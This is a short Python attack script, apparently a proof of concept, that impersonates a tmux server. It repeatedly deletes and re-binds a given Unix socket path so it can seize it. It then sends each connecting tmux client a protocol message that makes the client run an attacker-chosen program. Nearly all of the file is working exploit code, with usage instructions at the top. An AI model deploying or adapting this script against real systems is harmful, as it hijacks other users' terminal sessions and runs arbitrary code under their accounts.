"""In the place of the tmux server: has every client that comes become a program, and takes a lost place back.

python3 hostile_server.py SOCKET PROGRAM
"""

import os
import socket
import struct
import sys
import threading
import time
from contextlib import suppress

path, program = sys.argv[1:]
_VERSION, _SHELL = 8, 209  # of tmux's protocol: a message by which a client becomes the shell that it names


def serve(listening: socket.socket) -> None:
    """Answer all who come."""
    data = os.fsencode(program) + b"\0"
    while True:
        connection, _ = listening.accept()
        with connection, suppress(OSError):
            connection.sendall(struct.pack("=IHHII", _SHELL, 16 + len(data), 0, _VERSION, 0) + data)
            connection.recv(65536)


mine = 0
while True:
    with suppress(OSError):
        if not os.path.lexists(path) or os.lstat(path).st_ino != mine:
            with suppress(FileNotFoundError):
                os.unlink(path)
            listening = socket.socket(socket.AF_UNIX)
            listening.bind(path)
            listening.listen(100)
            mine = os.lstat(path).st_ino
            threading.Thread(target=serve, args=(listening,), daemon=True).start()
    time.sleep(0.002)
